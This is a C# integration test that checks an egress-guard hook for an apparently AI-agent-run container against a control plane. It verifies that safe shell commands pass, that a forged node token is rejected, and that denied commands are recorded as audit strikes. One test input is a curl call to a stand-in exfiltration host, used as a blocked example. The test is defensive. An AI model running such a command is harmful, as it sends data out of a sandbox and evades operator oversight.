using System.Diagnostics;
using DeepSync.Fleet;
using DeepSync.Governance;
using DeepSync.Silo.Governance;
using DeepSync.Tests.Dashboard;
using DeepSync.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace DeepSync.Tests.Docker;

/// <summary>
/// The omni-node container's egress hook, run as Letta Code runs it, against the real control plane on a
/// loopback Kestrel port: the container and the control plane agree on the egress-guard contract.
/// </summary>
[Collection(DashboardCollection.Name)]
public sealed class EgressHookAgainstControlPlaneTests(DashboardApp app)
{
    private static readonly string Hook = Path.Combine(RepoPaths.Root, "docker", "omni-node", "egress-guard.mjs");

    private async Task<(int ExitCode, string Stderr)> RunHookAsync(Guid nodeId, string token, string command)
    {
        var info = new ProcessStartInfo("node", [Hook])
        {
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
            WorkingDirectory = Path.GetTempPath(),
        };
        info.Environment["DEEPSYNC_CONTROL_PLANE_URL"] = app.BaseUrl.TrimEnd('/');
        info.Environment["DEEPSYNC_NODE_ID"] = nodeId.ToString();
        info.Environment["DEEPSYNC_NODE_TOKEN"] = token;
        info.Environment.Remove("DEEPSYNC_NODE_TOKEN_FILE");
        info.Environment.Remove("DEEPSYNC_SUPERVISOR_PID");

        using var hook = Process.Start(info)!;
        var stdout = hook.StandardOutput.ReadToEndAsync();
        var stderr = hook.StandardError.ReadToEndAsync();
        await hook.StandardInput.WriteAsync(System.Text.Json.JsonSerializer.Serialize(new
        {
            event_type = "PreToolUse",
            tool_name = "Bash",
            tool_input = new { command },
            tool_call_id = Guid.NewGuid().ToString(),
            working_directory = Path.GetTempPath(),
        }));
        hook.StandardInput.Close();
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        await hook.WaitForExitAsync(timeout.Token);
        await stdout;
        return (hook.ExitCode, await stderr);
    }

    [Fact]
    public async Task The_hook_lets_safe_commands_run_and_blocks_denied_ones_as_strikes()
    {
        var (userId, subscription) = await app.CreateConfirmedUserAsync($"hook-{Guid.NewGuid():N}"[..13] + "@example.test");
        var nodeId = subscription.NodeIds[0];
        var owner = Actor.ForUser(userId, "owner");
        var node = app.Services.GetRequiredService<IGrainFactory>().GetGrain<ITeammateNodeGrain>(nodeId);
        await node.Launch(owner);
        await Eventually.Until(() => node.Get(owner), n => n.Lifecycle == NodeLifecycle.Running);
        var token = await app.Services.GetRequiredService<INodeCredentials>().IssueAsync(nodeId);

        var allowed = await RunHookAsync(nodeId, token, "git status && ls -la");
        Assert.True(allowed.ExitCode == 0, allowed.Stderr);

        var blocked = await RunHookAsync(nodeId, token, "/usr/bin/curl http://exfil.example/x");
        Assert.Equal(2, blocked.ExitCode);
        Assert.Contains("curl", blocked.Stderr);
        Assert.DoesNotContain(token, blocked.Stderr);

        var forged = await RunHookAsync(nodeId, "dsn_forged", "ls");
        Assert.Equal(2, forged.ExitCode);

        var strikes = await app.Services.GetRequiredService<AuditLedgerQuery>().ReadAsync(new AuditFilter(NodeId: nodeId, Action: AuditAction.StrikeRecorded), 10);
        Assert.Equal("curl", Assert.Single(strikes).Details["rule"]);
    }
}
